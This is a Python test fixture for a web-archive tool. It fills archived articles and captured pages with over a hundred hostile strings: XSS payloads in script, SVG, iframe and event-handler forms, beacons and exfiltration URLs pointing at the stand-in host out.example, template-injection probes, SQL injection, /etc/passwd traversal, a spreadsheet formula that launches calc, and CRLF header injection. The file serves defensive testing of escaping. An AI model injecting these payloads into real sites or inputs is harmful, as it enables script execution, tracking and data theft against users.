"""Articles as an attacker would have them: more than a hundred texts, each in every place where an article has one."""

from __future__ import annotations

from itertools import product

from archive import Archive
from archive.model import Article, Attachment, Credit, Exchange, Image, Precision, Problem, RelatedItem, Role
from tests.archive.life import SOURCE, day

OUT = "out.example"  # a host that nobody may be asked for

RUN = f"alert(1);new Image().src='http://{OUT}/ran'"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src=//{OUT}/a.js></sCrIpT>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg onload={RUN}>">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<img src=x onerror="{RUN}">',
    f"<img src=http://{OUT}/pixel.png>",
    f'<img srcset="http://{OUT}/set.png 2x">',
    f'<body onload="{RUN}">',
    f"<body background=http://{OUT}/ground.png>",
    f'<details open ontoggle="{RUN}">x</details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<video src=http://{OUT}/v.mp4 onerror="{RUN}" autoplay>',
    f"<audio src=http://{OUT}/a.mp3 autoplay>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"<iframe src=http://{OUT}/frame></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<object data=http://{OUT}/o.swf></object>",
    f"<embed src=http://{OUT}/e.swf>",
    f"<link rel=stylesheet href=http://{OUT}/s.css>",
    f"<link rel=preconnect href=http://{OUT}>",
    f"<link rel=dns-prefetch href=//{OUT}>",
    f"<link rel=prefetch href=http://{OUT}/next>",
    f'<img title=x" > <link rel=preconnect href=http://{OUT}> ">',
    f"<style>@import url(http://{OUT}/i.css);body{{background:url(http://{OUT}/b.png)}}</style>",
    f'<p style="background:url(http://{OUT}/p.png);position:fixed;inset:0">',
    f"<base href=http://{OUT}/>",
    f'<meta http-equiv=refresh content="0;url=http://{OUT}/gone">',
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    f"<form action=http://{OUT}/post><input name=q><button autofocus>x</button></form>",
    f"<a href=http://{OUT}/ ping=http://{OUT}/ping>x</a>",
    f"<script>new WebSocket('ws://{OUT}/socket')</script>",
    f"<template><script>{RUN}</script></template>",
    "<plaintext>",
    "<xmp><b>",
    "<!-- ",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    f"<table background=http://{OUT}/t.png>",
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<isindex type=image src=1 onerror="{RUN}">',
)
ATTRIBUTES = tuple(
    f"{quote}{space}{handler}={quote}{RUN}{quote}{space}x={quote}"
    for quote, space, handler in product(('"', "'", "`"), (" ", "/"), ("onmouseover", "autofocus onfocus", "style"))
)
SCHEMES = tuple(
    scheme + rest
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        " javascript:",
        "vbscript:",
        "data:text/html,",
        "\x01javascript:",
    )
    for rest in (RUN, f"//{OUT}/%0a{RUN}")
)
ADDRESSES = (
    *SCHEMES,
    f"//{OUT}/x",
    f"\\\\{OUT}\\x",
    f"ws://{OUT}/",
    "file:///etc/passwd",
    "http://[",
    "http://a\nb/",
    "blob:x",
    "http://" + "a" * 9000,
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}",
    "{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{name}",
    "%s%n",
    "{0.__class__}",
)
STYLES = ("}body{background:url(//out.example/)}", "expression(alert(1))", "</style>", "@import 'x'", "\\22 onload=")
SIGNS = (
    "\u202eevil\u202c",
    "\u2066\u2067",
    "\u2028\u2029",
    "a\u0000b",
    "\ufeff",
    "\u200b" * 50,
    "\x1b[31m",
    "\ud7ff\ufffe",
    "Z" + "\u0301" * 300,
    "&lt;b&gt;&#60;script&#62;",
    "\r\n\r\nSet-Cookie: a=b",
    "'; DROP TABLE articles; --",
    "../../../etc/passwd",
    "CON.pdf\\..\\x",
    "=cmd|' /C calc'!A0",
    "%00%0d%0a",
)

TEXTS = ELEMENTS + ATTRIBUTES + ADDRESSES + TEMPLATES + STYLES + SIGNS

HUGE = ("<b onclick=x>" + "巨" * 2000) * 850  # 5 MB

FILES = (("svg", "image/svg+xml"), ("png", "image/png"), ("pdf", "application/pdf"))


def addressed(number: int) -> str:
    return f"http://jia.example/hostile/{number}.html"


def article(number: int, text: str) -> Article:
    """An article that has the text wherever there can be one."""
    url = addressed(number)
    return Article(
        url=url,
        canonical_url=url,
        title=text,
        subtitle=text,
        published_at="2024-03-01",
        published_precision=Precision.DAY,
        origin=text,
        column=text,
        credits=(Credit(Role.AUTHOR, text, text), Credit(Role.OTHER, "", text)),
        body=f"{text}\n第二段{text}",
        read_count=120,
        related=(
            RelatedItem(1, text, True, text, text, 3, "2024-02-01"),
            RelatedItem(2, text, False, None, addressed(number - 1)),
        ),
        images=(Image(text, text), Image(f"{url}.png", text), Image(f"{url}.svg", text)),
        attachments=(Attachment(text, text), Attachment(f"{url}.pdf", text)),
        keywords=(text,),
        document_number=text,
        problems=(Problem("title", text),),
    )


def page(text: str) -> bytes:
    """The page of such an article, as it was served."""
    head = f"<!DOCTYPE html><html><head><meta charset=utf-8><title>x</title>{text}</head>"
    return f'{head}<body><h1>{text}</h1><p title="{text}">{text}</p></body></html>'.encode(errors="replace")


def filled(archive: Archive) -> None:
    """The archive with all of them, each edited once; the first ones come with files, the last one has a title of 5 MB."""
    archive.add_source(SOURCE)
    with archive.transaction():
        for at, more in ((day(1), ""), (day(3), "改")):  # day by day: a WARC file is of one day
            for number, text in enumerate(TEXTS, 1):
                made = article(number, text + more)
                proof = _captured(archive, made.url, "text/html; charset=utf-8", page(text + more), at)
                archive.record(made, source="jia", captures=[proof], seen_at=at)
        for number, (ending, kind) in product((1, 2, 3), FILES):
            _captured(archive, f"{addressed(number)}.{ending}", kind, page(TEXTS[number]), day(3))
        url = addressed(0)
        huge = Article(url=url, canonical_url=url, title=HUGE, published_at="2024-03-02", body="一")
        archive.record(
            huge, source="jia", captures=[_captured(archive, url, "text/html", b"<p>", day(3))], seen_at=day(3)
        )


def _captured(archive: Archive, url: str, kind: str, body: bytes, at: str) -> int:
    exchange = Exchange(
        "GET", url, at, 200, (), (("Content-Type", kind), ("Link", f"<http://{OUT}>; rel=preconnect")), body
    )
    return archive.capture(exchange, source="jia", run=None)
